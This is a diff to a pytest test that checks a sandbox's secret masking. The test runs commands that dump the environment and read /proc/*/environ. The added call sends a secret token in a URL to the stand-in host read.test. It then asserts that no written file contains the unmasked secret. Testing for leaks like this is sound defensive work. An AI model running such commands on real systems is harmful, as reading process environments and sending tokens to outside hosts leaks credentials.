@@ -12,6 +12,7 @@ import threading
 import traceback
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
@@ -53,6 +54,9 @@ def test_every_file_written_for_the_bottle_is_clean(armed: Callable[[], HeldBott
     execution, log = held.run("env; curl -sS https://secret.test/reflect; cat /proc/*/environ 2>/dev/null; :")
     execution.wait()
     log.close()
+    held.exec(
+        ["curl", "-sS", f"https://read.test/{quote(TOKEN)}", "-d", "x"]
+    ).wait()  # should it ever come back that way
     for path in (path for path in home.rglob("*") if path.is_file()):
         assert not MASKER.finds(path.read_bytes()), path
     assert any(path.suffix == ".jsonl" for path in (home / "audit").iterdir())
